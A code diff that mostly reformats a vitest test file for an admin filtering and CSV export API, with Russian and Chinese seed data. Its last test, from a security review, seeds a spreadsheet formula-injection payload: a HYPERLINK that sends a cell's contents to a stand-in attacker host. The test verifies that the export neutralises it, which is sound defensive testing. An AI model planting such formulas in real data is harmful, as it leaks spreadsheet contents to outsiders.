@@ -10,7 +10,17 @@ import { parse } from "csv-parse/sync";
 import { inArray, sql } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { seedRegions } from "../../server/catalog/regions.ts";
-import { companies, companyMembers, companyServices, legalEntities, products, serviceTypes, users, type CompanyStatus, type ProductStatus } from "../../server/db/schema.ts";
+import {
+  companies,
+  companyMembers,
+  companyServices,
+  legalEntities,
+  products,
+  serviceTypes,
+  users,
+  type CompanyStatus,
+  type ProductStatus,
+} from "../../server/db/schema.ts";
 import { openTestApi, type TestApi } from "../support/api.ts";
 import { call, cleanupProfileData, createUser, TEST_DOMAIN, type TestUser } from "../support/profile.ts";
 
@@ -19,7 +29,14 @@ let moderator: TestUser;
 const marker = `flt${process.pid}${Date.now().toString(36)}`;
 const ids = { companies: [] as number[], products: [] as number[], users: [] as number[], serviceType: 0 };
 
-interface CompanySeed { status: CompanyStatus; country: "RU" | "CN"; region: string; level: number; created: string; name: string }
+interface CompanySeed {
+  status: CompanyStatus;
+  country: "RU" | "CN";
+  region: string;
+  level: number;
+  created: string;
+  name: string;
+}
 const COMPANIES: CompanySeed[] = [
   { status: "published", country: "RU", region: "77", level: 2, created: "2025-01-10", name: `Альфа ${marker}` },
   { status: "published", country: "CN", region: "CN-21", level: 1, created: "2025-01-20", name: `辽中 ${marker}` },
@@ -30,7 +47,14 @@ const COMPANIES: CompanySeed[] = [
   { status: "published", country: "RU", region: "66", level: 1, created: "2025-04-20", name: `Жёлудь ${marker}` },
 ];
 
-interface ProductSeed { company: number; status: ProductStatus; pending: boolean; currency: "RUB" | "CNY" | null; price: string | null; name: string }
+interface ProductSeed {
+  company: number;
+  status: ProductStatus;
+  pending: boolean;
+  currency: "RUB" | "CNY" | null;
+  price: string | null;
+  name: string;
+}
 const PRODUCTS: ProductSeed[] = [
   { company: 0, status: "published", pending: false, currency: "RUB", price: "100.00", name: `Труба ${marker}` },
   { company: 0, status: "published", pending: true, currency: "RUB", price: "250.00", name: `Швеллер ${marker}` },
@@ -45,7 +69,10 @@ const PRODUCTS: ProductSeed[] = [
 async function get(url: string) {
   const reply = await call(api, "GET", url, undefined, moderator.token);
   if (reply.status !== 200) throw new Error(`GET ${url} → ${reply.status} ${JSON.stringify(reply.body)}`);
-  return reply.body as { data: { items: Record<string, any>[]; facets: Record<string, { value: string; count: number; label?: Record<string, string> }[]> }; meta: { total: number; page: number; pages: number } };
+  return reply.body as {
+    data: { items: Record<string, any>[]; facets: Record<string, { value: string; count: number; label?: Record<string, string> }[]> };
+    meta: { total: number; page: number; pages: number };
+  };
 }
 
 /** Every page of a filter, concatenated. */
@@ -68,13 +95,21 @@ function countBy<T>(rows: T[], key: (row: T) => string): Record<string, number> 
   return out;
 }
 
-async function csv(path: string): Promise<{ bytes: Uint8Array; text: string; rows: Record<string, string>[]; total: string | null; type: string | null }> {
+async function csv(
+  path: string,
+): Promise<{ bytes: Uint8Array; text: string; rows: Record<string, string>[]; total: string | null; type: string | null }> {
   const response = await api.app.request(path, { headers: { authorization: `Bearer ${moderator.token}` } });
   expect(response.status).toBe(200);
   const bytes = new Uint8Array(await response.arrayBuffer());
   // Decoded as it is on disk: the BOM kept (Response.text() would drop it).
   const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
-  return { bytes, text, rows: parse(text, { columns: true, bom: true }) as Record<string, string>[], total: response.headers.get("x-total-count"), type: response.headers.get("content-type") };
+  return {
+    bytes,
+    text,
+    rows: parse(text, { columns: true, bom: true }) as Record<string, string>[],
+    total: response.headers.get("x-total-count"),
+    type: response.headers.get("content-type"),
+  };
 }
 
 beforeAll(async () => {
@@ -85,7 +120,15 @@ beforeAll(async () => {
   for (const seed of COMPANIES) {
     const [row] = await api.db
       .insert(companies)
-      .values({ name: { ru: seed.name, zh: `${seed.name} 公司` }, status: seed.status, country: seed.country, regionCode: seed.region, verificationLevel: seed.level, createdAt: new Date(`${seed.created}T12:00:00Z`), updatedAt: new Date(`${seed.created}T12:00:00Z`) })
+      .values({
+        name: { ru: seed.name, zh: `${seed.name} 公司` },
+        status: seed.status,
+        country: seed.country,
+        regionCode: seed.region,
+        verificationLevel: seed.level,
+        createdAt: new Date(`${seed.created}T12:00:00Z`),
+        updatedAt: new Date(`${seed.created}T12:00:00Z`),
+      })
       .returning({ id: companies.id });
     ids.companies.push(row!.id);
   }
@@ -122,18 +165,48 @@ beforeAll(async () => {
   for (const [i, p] of people.entries()) {
     const [row] = await api.db
       .insert(users)
-      .values({ email: `person${i}.${marker}@${TEST_DOMAIN}`, firstName: "Тест", lastName: p.last, role: p.role, locale: p.locale, blockedAt: p.blocked ? new Date() : null, acceptedTermsAt: new Date() })
+      .values({
+        email: `person${i}.${marker}@${TEST_DOMAIN}`,
+        firstName: "Тест",
+        lastName: p.last,
+        role: p.role,
+        locale: p.locale,
+        blockedAt: p.blocked ? new Date() : null,
+        acceptedTermsAt: new Date(),
+      })
       .returning({ id: users.id });
     ids.users.push(row!.id);
-    if (p.company !== null) await api.db.insert(companyMembers).values({ companyId: ids.companies[p.company]!, userId: row!.id, role: p.companyRole!, status: p.status! });
+    if (p.company !== null)
+      await api.db
+        .insert(companyMembers)
+        .values({ companyId: ids.companies[p.company]!, userId: row!.id, role: p.companyRole!, status: p.status! });
   }
-  await api.db.insert(companyMembers).values({ companyId: ids.companies[1]!, invitedEmail: `invitee.${marker}@${TEST_DOMAIN}`, role: "admin", status: "invited" });
-  const [type] = await api.db.insert(serviceTypes).values({ slug: `svc-${marker}`, name: { ru: `Услуга ${marker}` } }).returning({ id: serviceTypes.id });
+  await api.db
+    .insert(companyMembers)
+    .values({ companyId: ids.companies[1]!, invitedEmail: `invitee.${marker}@${TEST_DOMAIN}`, role: "admin", status: "invited" });
+  const [type] = await api.db
+    .insert(serviceTypes)
+    .values({ slug: `svc-${marker}`, name: { ru: `Услуга ${marker}` } })
+    .returning({ id: serviceTypes.id });
   ids.serviceType = type!.id;
   await api.db.insert(companyServices).values([
-    { companyId: ids.companies[0]!, serviceTypeId: type!.id, description: { ru: `Доставка ${marker}` }, status: "published", priceFrom: "1000", currency: "RUB" },
+    {
+      companyId: ids.companies[0]!,
+      serviceTypeId: type!.id,
+      description: { ru: `Доставка ${marker}` },
+      status: "published",
+      priceFrom: "1000",
+      currency: "RUB",
+    },
     { companyId: ids.companies[1]!, serviceTypeId: type!.id, description: { ru: `Таможня ${marker}` }, status: "draft" },
-    { companyId: ids.companies[6]!, serviceTypeId: type!.id, description: { ru: `Склад ${marker}` }, status: "published", priceFrom: "500", currency: "RUB" },
+    {
+      companyId: ids.companies[6]!,
+      serviceTypeId: type!.id,
+      description: { ru: `Склад ${marker}` },
+      status: "published",
+      priceFrom: "500",
+      currency: "RUB",
+    },
   ]);
 });
 
@@ -150,7 +223,9 @@ describe("companies", () => {
     const everything = await all(`/app/admin/filter/company?q=${marker}`);
     expect(everything.map((r) => r.id).sort((a, b) => a - b)).toEqual([...ids.companies].sort((a, b) => a - b));
     const chosen = await all(`/app/admin/filter/company?q=${marker}&status=published&status=rejected&country=RU`);
-    const expected = ids.companies.filter((_, i) => ["published", "rejected"].includes(COMPANIES[i]!.status) && COMPANIES[i]!.country === "RU");
+    const expected = ids.companies.filter(
+      (_, i) => ["published", "rejected"].includes(COMPANIES[i]!.status) && COMPANIES[i]!.country === "RU",
+    );
     expect(chosen.map((r) => r.id).sort((a, b) => a - b)).toEqual(expected.sort((a, b) => a - b));
     const commas = await all(`/app/admin/filter/company?q=${marker}&status=published,rejected&country=RU`);
     expect(commas.map((r) => r.id).sort()).toEqual(chosen.map((r) => r.id).sort());
@@ -174,7 +249,10 @@ describe("companies", () => {
   });
 
   test("an INN finds its company; dates are inclusive days; sorting and paging are stable", async () => {
-    const [entity] = await api.db.select().from(legalEntities).where(sql`company_id = ${ids.companies[0]!}`);
+    const [entity] = await api.db
+      .select()
+      .from(legalEntities)
+      .where(sql`company_id = ${ids.companies[0]!}`);
     expect((await all(`/app/admin/filter/company?q=${entity!.inn}`)).map((r) => r.id)).toEqual([ids.companies[0]]);
     const january = await all(`/app/admin/filter/company?q=${marker}&createdFrom=2025-01-10&createdTo=2025-01-20`);
     expect(january.map((r) => r.id).sort()).toEqual([ids.companies[0], ids.companies[1]].sort());
@@ -194,11 +272,22 @@ describe("companies", () => {
     const expected = ids.companies.filter((_, i) => COMPANIES[i]!.status === "published");
     expect(file.rows.map((r) => Number(r.id))).toEqual(expected);
     expect(file.total).toBe(String(expected.length));
-    expect(file.rows[0]).toMatchObject({ name_ru: `Альфа ${marker}`, name_zh: `Альфа ${marker} 公司`, status: "published", country: "RU", region_code: "77" });
+    expect(file.rows[0]).toMatchObject({
+      name_ru: `Альфа ${marker}`,
+      name_zh: `Альфа ${marker} 公司`,
+      status: "published",
+      country: "RU",
+      region_code: "77",
+    });
     expect(Object.keys(file.rows[0]!)).toContain("inn");
     const none = await csv(`/app/admin/filter/company?q=${marker}-nothing&format=csv`);
     expect(none.rows).toEqual([]);
-    expect(none.text.replace(/^\ufeff/, "").trim().split(",")[0]).toBe("id");
+    expect(
+      none.text
+        .replace(/^\ufeff/, "")
+        .trim()
+        .split(",")[0],
+    ).toBe("id");
   });
 });
 
@@ -210,13 +299,25 @@ describe("products", () => {
     expect(body.data.items.every((r) => r.pending === true)).toBe(true);
     // The pending name is what the list shows (the moderator's working view).
     expect(body.data.items.map((r) => r.name.ru)).toContain(`Швеллер ${marker} (новое)`);
-    expect(facet(body, "status")).toEqual(countBy(PRODUCTS.filter((p) => p.pending), (p) => p.status));
-    expect(facet(body, "pending")).toEqual(countBy(PRODUCTS.filter((p) => p.status === "published"), (p) => (p.pending ? "yes" : "no")));
+    expect(facet(body, "status")).toEqual(
+      countBy(
+        PRODUCTS.filter((p) => p.pending),
+        (p) => p.status,
+      ),
+    );
+    expect(facet(body, "pending")).toEqual(
+      countBy(
+        PRODUCTS.filter((p) => p.status === "published"),
+        (p) => (p.pending ? "yes" : "no"),
+      ),
+    );
     const cny = await all(`/app/admin/filter/product?q=${marker}&currency=CNY`);
     expect(cny.map((r) => r.id).sort()).toEqual([ids.products[2], ids.products[3]].sort());
     const ofCompany = await all(`/app/admin/filter/product?company=${ids.companies[6]}`);
     expect(ofCompany.map((r) => r.id).sort()).toEqual([ids.products[6], ids.products[7]].sort());
-    const cheapFirst = (await get(`/app/admin/filter/product?q=${marker}&sort=priceFrom&order=asc&limit=100`)).data.items.map((r) => r.price_from);
+    const cheapFirst = (await get(`/app/admin/filter/product?q=${marker}&sort=priceFrom&order=asc&limit=100`)).data.items.map(
+      (r) => r.price_from,
+    );
     const priced = cheapFirst.filter((p) => p !== null).map(Number);
     expect(priced).toEqual([...priced].sort((a, b) => a - b));
     expect(cheapFirst.at(-1)).toBeNull();
@@ -227,7 +328,11 @@ describe("products", () => {
     const pages = await all(path);
     const file = await csv(`${path}&format=csv`);
     expect(file.rows.map((r) => Number(r.id))).toEqual(pages.map((r) => r.id));
-    expect(file.rows.find((r) => Number(r.id) === ids.products[1])).toMatchObject({ pending_changes: "yes", currency: "RUB", price_from: "250" });
+    expect(file.rows.find((r) => Number(r.id) === ids.products[1])).toMatchObject({
+      pending_changes: "yes",
+      currency: "RUB",
+      price_from: "250",
+    });
   });
 });
 
@@ -243,7 +348,13 @@ describe("users, employees, legal entities and services", () => {
     expect(withCompany.data.items.map((r) => r.id)).toEqual([ids.users[1]]);
     expect(facet(withCompany, "locale")).toEqual({ ru: 1, en: 1, zh: 1 });
     const file = await csv(`/app/admin/filter/user?q=${marker}&format=csv&sort=id&order=asc`);
-    expect(file.rows.map((r) => r.last_name)).toEqual([`Иванов${marker}`, `Петров${marker}`, `王${marker}`, `Сидоров${marker}`, `Смит${marker}`]);
+    expect(file.rows.map((r) => r.last_name)).toEqual([
+      `Иванов${marker}`,
+      `Петров${marker}`,
+      `王${marker}`,
+      `Сидоров${marker}`,
+      `Смит${marker}`,
+    ]);
   });
 
   test("employees, with open invitations, by status and role", async () => {
@@ -281,7 +392,14 @@ describe("users, employees, legal entities and services", () => {
 describe("CSV exports (security review F4)", () => {
   test("a cell typed to look like a formula is exported as text, never as a formula", async () => {
     const formula = `=HYPERLINK("https://evil.example/?"&B2,"Open")`;
-    await api.db.insert(users).values({ email: `formula.${marker}@${TEST_DOMAIN}`, firstName: formula, lastName: `@SUM(1+1)${marker}`, role: "USER", locale: "ru", acceptedTermsAt: new Date() });
+    await api.db.insert(users).values({
+      email: `formula.${marker}@${TEST_DOMAIN}`,
+      firstName: formula,
+      lastName: `@SUM(1+1)${marker}`,
+      role: "USER",
+      locale: "ru",
+      acceptedTermsAt: new Date(),
+    });
     const file = await csv(`/app/admin/filter/user?q=${marker}&format=csv`);
     const row = file.rows.find((r) => r.last_name === `'@SUM(1+1)${marker}`);
     expect(row, file.text).toBeDefined();
